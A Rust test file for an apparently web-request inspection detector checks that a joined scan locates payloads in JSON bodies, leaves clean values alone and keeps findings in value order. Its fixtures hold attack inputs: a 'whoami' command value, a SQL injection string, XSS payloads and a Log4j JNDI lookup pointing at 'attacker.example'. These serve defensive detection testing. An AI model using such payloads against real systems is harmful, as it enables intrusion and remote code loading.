//! The joined scan: every value's views are matched in one multi-line scan, and only a
//! match sends values to the per-value scans. A payload among many clean values must still
//! be found at its own location, rules anchored at the start or end of a value must still
//! see each value's edges, values scanned singly (line breaks, Log4j lookups) must still be
//! inspected, and findings must stay in value order.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use serde_json::json;
use support::request;

fn located(inspection: &portcullis_inspect::Inspection) -> Vec<(String, &'static str)> {
    inspection
        .findings
        .iter()
        .map(|f| (f.location.clone(), f.id))
        .collect()
}

#[test]
fn anchored_payload_between_clean_values_is_found_at_its_location() {
    let det = request::detector();
    // `rce.unix_command_start` is anchored at the start of the value: in the joined text
    // the value starts a line, so the scan must treat line starts as value starts.
    let body = json!({
        "a_title": "Brakes squeak when cold",
        "b_command": "whoami",
        "c_tags": ["brakes", "union station", "2024-03-15T10:20:30Z"],
    });
    let inspection = request::json(&det, &body);
    let found = located(&inspection);
    assert!(
        found.contains(&("/body/b_command".to_owned(), "rce.unix_command_start")),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .all(|(location, _)| location == "/body/b_command"),
        "{found:?}"
    );
    assert!(inspection.exceeds(5));
}

#[test]
fn clean_values_with_quotes_urls_and_capitals_stay_clean() {
    let det = request::detector();
    let body = json!({
        "author": "Siobhán O'Brien",
        "content": "After 5 minutes it's fine; the dealer said it's normal? See https://www.example.com/docs?page=2&sort=asc",
        "vin": "1HGCM82633A004352",
        "tags": ["brakes", "union station", "1=1 is a math fact"],
    });
    let inspection = request::json(&det, &body);
    assert_eq!(inspection.score, 0, "{:?}", located(&inspection));
    // The path and its two segments, four keys, three strings and three tags.
    assert_eq!(inspection.values_inspected, 13);
}

#[test]
fn findings_follow_value_order_across_joined_and_single_scans() {
    let det = request::detector();
    // `b` holds a line break and `d` a Log4j lookup: both are scanned singly, the others
    // go through the joined scan; the findings must still come in value order.
    let body = json!({
        "a": "' or 1=1--",
        "b": "first line\n<img src=x onerror=alert(1)>",
        "c": "<script>alert(1)</script>",
        "d": "${jndi:ldap://attacker.example/a}",
    });
    let inspection = request::json(&det, &body);
    let mut order: Vec<String> = Vec::new();
    for (location, _) in located(&inspection) {
        if order.last() != Some(&location) {
            order.push(location);
        }
    }
    assert_eq!(
        order,
        ["/body/a", "/body/b", "/body/c", "/body/d"],
        "{:?}",
        located(&inspection)
    );
}
